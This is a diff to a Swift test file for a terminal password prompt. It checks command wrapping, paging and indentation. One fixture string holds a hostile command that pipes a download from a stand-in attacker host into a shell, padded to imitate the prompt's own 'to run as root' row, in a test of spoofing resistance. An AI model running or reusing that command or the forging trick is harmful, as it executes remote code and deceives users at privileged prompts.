@@ -16,6 +16,10 @@ import Testing
     return purpose
   }
 
+  /// A command whose second half imitates a row of Keyward's own.
+  private static let forger =
+    "sh -c 'curl evil.example|sh' $'.\\u{a}' 'bbbbbbbbbbbbbbb to run as root: apt-get upgrade -y '"
+
   private func screen(
     _ form: ScreenForm, columns: Int, rows: Int, fields: Int = 1, offset: Int = 0
   ) -> ComposedScreen {
@@ -65,29 +69,165 @@ import Testing
     }
   }
 
-  @Test("A long command is cut in the middle, and whole after Page Down")
-  func cut() {
-    let (_, rows, isCut) = purpose().rows(width: 70, isBrief: false)
-    #expect(isCut && rows.count == 2)
-    #expect(rows.joined().hasPrefix("to run as root: apt-get install --no-install-recommends pack"))
-    #expect(rows.joined().contains("…") && rows.joined().hasSuffix("package-60"))
-    for form in ScreenForm.allCases {
-      var seen = ""
-      for offset in 0...24 {
-        seen += screen(form, columns: 80, rows: 24, offset: offset).buffer.lines
-          .joined(separator: "\n")
+  @Test("A long command is cut in the middle, whatever the size", arguments: 1...2)
+  func cut(most: Int) {
+    for width in [18, 38, 54, 70, 98] {
+      let (rows, isCut) = purpose().rows(width: width, atMost: most)
+      #expect(isCut && rows.count == most)
+      #expect(rows[0].contains("apt-get in"), "\(rows)")
+      #expect(rows.joined().contains("…") && rows[most - 1].hasSuffix("-60"), "\(rows)")
+    }
+    let wide = purpose().rows(width: 70).rows
+    #expect(wide[0] == "to run as root: apt-get install --no-install-recommends package-1")
+  }
+
+  @Test("No row but the first begins at the left edge", arguments: ScreenForm.allCases)
+  func forgedRows(form: ScreenForm) {
+    var model = PromptViewModel(Question(), on: PromptSurface())
+    model.question.purpose = purpose(Self.forger)
+    model.form = form
+    model.fields = [.init(prompt: "Password", mask: .bullets)]
+    for columns in 24...100 {
+      for offset in 0...1 {
+        model.descriptionOffset = offset
+        let lines = model.rendered(columns: columns, rows: 24).buffer.lines.map {
+          $0.replacing("│", with: " ")
+        }
+        let text = lines.joined(separator: "\n")
+        guard let first = lines.firstIndex(where: { $0.contains("sh -c") }) else {
+          Issue.record("\(columns): \(text)")
+          continue
+        }
+        let margin = lines[first].prefix { $0 == " " }.count
+        let rest = lines[(first + 1)...].prefix { line in
+          !line.allSatisfy { $0 == " " } && !["… Pg", "Password"].contains { line.contains($0) }
+        }
+        for line in rest {
+          #expect(line.prefix { $0 == " " }.count >= margin + 2, "\(columns): \(text)")
+        }
       }
-      for number in [20, 30, 40, 50] { #expect(seen.contains("package-\(number)"), "\(form)") }
+    }
+  }
+
+  @Test("The rows of the asking program are indented, too")
+  func askerRows() throws {
+    var model = PromptViewModel(Question(), on: PromptSurface())
+    model.question.asker = "asked by x, pid 4711, in ~/a-folder ← for: ← for: ls ← zsh"
+    model.form = .inline
+    model.fields = [.init(prompt: "Password", mask: .bullets)]
+    let lines = model.rendered(columns: 36, rows: 24).buffer.lines
+    #expect(lines[0].hasPrefix("asked by") && lines[1].hasPrefix("  "), "\(lines)")
+    #expect(lines[2].hasPrefix("Password"), "\(lines)")
+  }
+
+  /// The sizes in which the middle of a command could not be read.
+  private static let sizes = [
+    (40, 10), (40, 12), (40, 16), (60, 10), (60, 18), (80, 10), (80, 16), (80, 24), (200, 60),
+  ]
+
+  @Test(
+    "Page Down shows all of a long command, and Page Up goes back",
+    arguments: ScreenForm.allCases, [false, true])
+  func pages(form: ScreenForm, hasKeyboard: Bool) throws {
+    guard form != .inline || !hasKeyboard else { return }
+    for (columns, rows) in Self.sizes {
+      var surface = PromptSurface()
+      surface.isInline = form == .inline
+      let prompt = try PromptHarness.prompt(
+        hasKeyboard: hasKeyboard, on: surface,
+        more: {
+          $0.look.form = form
+          $0.asker = "asked by sudo, pid 4711, in ~/site ← bash"
+          $0.purpose = purpose()
+          $0.description = "Line 1\nLine 2"
+        })
+      prompt.handle(.window(columns: columns, rows: rows), at: 1)
+      func lines() -> [String] {
+        prompt.picture(columns: columns, rows: rows).buffer.lines.map {
+          $0.filter { !"│╭╮╰╯─".contains($0) }
+        }
+      }
+      let first = lines()
+      #expect(first.contains { $0.contains("… PgDn") }, "\(first)")
+      var seen = ""
+      repeat {
+        prompt.press(.pageDown)
+        seen += lines().joined(separator: " ") + " "
+      } while prompt.screen.descriptionLinesLeft > 0
+      let size = "\(form), \(columns) × \(rows), \(seen)"
+      let words = Set(seen.split(separator: " "))
+      #expect((1...60).allSatisfy { words.contains("package-\($0)") }, "\(size)")
+      #expect(seen.contains("Line 1") && seen.contains("Line 2"), "\(size)")
+      let last = lines()
+      #expect(last.contains { $0.contains("… PgUp") }, "\(last)")
+      // The text is there once.
+      #expect(last.count { $0.contains("apt-get install") } <= 1, "\(last)")
+      while prompt.descriptionOffset > 0 {
+        prompt.press(.pageUp)
+        _ = lines()
+      }
+      #expect(lines() == first)
+    }
+  }
+
+  @Test("An opened text takes free rows first, and nothing else disappears")
+  func freeRows() {
+    let closed = screen(.card, columns: 200, rows: 60).buffer.lines
+    let open = screen(.card, columns: 200, rows: 60, offset: 1).buffer.lines
+    for lines in [closed, open] {
+      #expect(lines.count { $0.contains("to run as root:") } == 1)
+      for part in ["asked by sudo", "A title", "Line 9", "Sorry", "Password", "core dumps"] {
+        #expect(lines.contains { $0.contains(part) }, "\(part): \(lines)")
+      }
+    }
+    #expect(closed.contains { $0.contains("PgDn") } && open.contains { $0.contains("PgUp") })
+  }
+
+  @Test("A visible answer is submitted only after all of the question was shown")
+  func visibleAnswers() throws {
+    var question = Question()
+    question.look.form = .card
+    question.isVisible = true
+    question.asker = "asked by ssh, pid 18814, in ~/site ← bash"
+    question.purpose = Purpose()
+    question.purpose?.lead = "to log in to:"
+    question.purpose?.command = "ada@localhost"
+    question.prompt = .given(
+      """
+      The authenticity of host 'localhost (127.0.0.1)' can't be established.
+      ED25519 key fingerprint is SHA256:uNiVztksCsDhcc0u9e8BgrJXVGDeksGwmvCiPS1G2Jk.
+      This key is not known by any other names.
+      Are you sure you want to continue connecting (yes/no/[fingerprint])?
+      """)
+    (question.yesLabel, question.cancelLabel) = ("OK", "Cancel")
+    for (columns, rows) in [(40, 10), (80, 24)] {
+      let prompt = Prompt(
+        question, fields: try PromptHarness.fields(1), surface: PromptSurface())
+      prompt.begin(columns: columns, rows: rows)
+      func draw() -> String { prompt.draw(columns: columns, rows: rows) }
+      #expect(draw().contains("asked by ssh") && draw().contains("ED25519"), "\(draw())")
+      prompt.type("yes")
+      var pages = 0
+      while !draw().contains("[fingerprint]"), prompt.outcome == nil, pages < 9 {
+        prompt.press(.enter)
+        pages += 1
+      }
+      #expect(prompt.outcome == nil && (pages > 0) == (rows == 10), "\(draw())")
+      prompt.press(.enter)
+      #expect(prompt.outcome == .submitted)
     }
   }
 
   @Test("Lead words give way before a part of the command, and the door last")
   func leadsGiveWay() {
     let whole = String(repeating: "x", count: 58)
-    #expect(
-      purpose(whole).rows(width: 38, isBrief: false).rows.joined() == "to run as root: " + whole)
-    let more = String(repeating: "x", count: 61)
-    #expect(purpose(more).rows(width: 38, isBrief: false).rows.joined() == "for: \(more) (as root)")
+    func text(_ command: String) -> String {
+      let rows = purpose(command).rows(width: 38).rows
+      return rows[0] + rows.dropFirst().map { $0.dropFirst(2) }.joined()
+    }
+    #expect(text(whole) == "to run as root: " + whole)
+    let more = String(repeating: "x", count: 59)
+    #expect(text(more) == "for: \(more) (as root)")
     let door = purpose(Self.command, door: "variable TOKEN").rows(width: 70, isBrief: false).rows
     #expect(door.joined().hasSuffix(" (variable TOKEN)"))
     #expect(
